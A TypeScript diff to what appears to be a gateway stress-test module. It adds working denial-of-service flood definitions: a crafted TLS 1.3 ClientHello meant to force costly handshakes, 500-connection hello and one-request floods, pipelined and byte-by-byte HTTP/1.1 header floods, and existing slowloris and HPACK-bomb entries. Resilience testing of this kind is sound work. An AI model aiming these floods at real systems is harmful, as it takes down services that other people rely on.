@@ -17,6 +17,8 @@ export type Flood = {
   readonly opening: string;
   /** Sent again and again; `at` counts from 0 on each connection. Absent: nothing more is sent. */
   readonly batch?: (at: number) => string;
+  /** It is closed with the first byte of an answer. */
+  readonly closes?: boolean;
   /** Pause between batches; 0 sends as fast as they are taken. */
   readonly everyMs: number;
   /** Whether answers are read. */
@@ -49,6 +51,21 @@ const tableEntry = `\x40\x01x\x7f${String.fromCharCode(0x80 | ((3000 - 127) & 12
 const bomb = headerBlock(target) + tableEntry + '\xbe'.repeat(8_000);
 /** SETTINGS_INITIAL_WINDOW_SIZE 0: no answer's body can be sent. */
 const noWindow = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame('settings', 0, 0, `\0\x04${uint32(0)}`)}`;
+/** Of TLS 1.3, with a share of X25519: it costs its sender nothing, and the gateway a key exchange and a signature. */
+function clientHello(): string {
+  const vector = (bytes: string): string =>
+    String.fromCharCode(bytes.length >> 8, bytes.length & 255) + bytes;
+  const extension = (type: number, data: string): string => `\0${String.fromCharCode(type)}${vector(data)}`;
+  const share = `\0\x1d${vector('\x09'.padEnd(32, '\x42'))}`;
+  const extensions = [
+    extension(10, vector('\0\x1d')),
+    extension(13, vector('\x04\x03\x08\x04\x08\x05')),
+    extension(43, '\x02\x03\x04'),
+    extension(51, vector(share)),
+  ];
+  const body = `\x03\x03${'r'.repeat(32)}\0${vector('\x13\x01')}\x01\0${vector(extensions.join(''))}`;
+  return `\x16\x03\x01${vector(`\x01\0${vector(body)}`)}`;
+}
 const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n`;
 const webSocket = `${request}Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`;
 
@@ -97,10 +114,26 @@ export const floods: Readonly<Record<string, Flood>> = {
     ...{ connections: 50, opening: '', everyMs: 0, reads: false },
     batch: () => `${request}\r\n`.repeat(batchSize),
   },
+  'HTTP/1.1 pipelining, not in plain form': {
+    ...{ connections: 50, opening: '', everyMs: 0, reads: true },
+    batch: () => `GET http://${host}${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(batchSize),
+  },
+  'HTTP/1.1 heads, byte by byte': {
+    ...{ connections: 50, opening: request, everyMs: 0, reads: true },
+    batch: (at) => (at % 40 === 0 ? '\r\nX: ' : 'x'),
+  },
   'HTTP/1.1 bodies in chunks of one byte': {
     ...{ connections: 4, everyMs: 0, reads: true },
     opening: `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n`,
     batch: () => '1\r\nx\r\n'.repeat(200),
+  },
+  'TLS hellos': { connections: 500, opening: clientHello(), everyMs: 0, closes: true, reads: true },
+  'connections of one request': {
+    connections: 500,
+    opening: `${request}\r\n`,
+    everyMs: 0,
+    closes: true,
+    reads: true,
   },
   slowloris: {
     ...{ connections: 5_000, opening: request, everyMs: 1_000, reads: true },
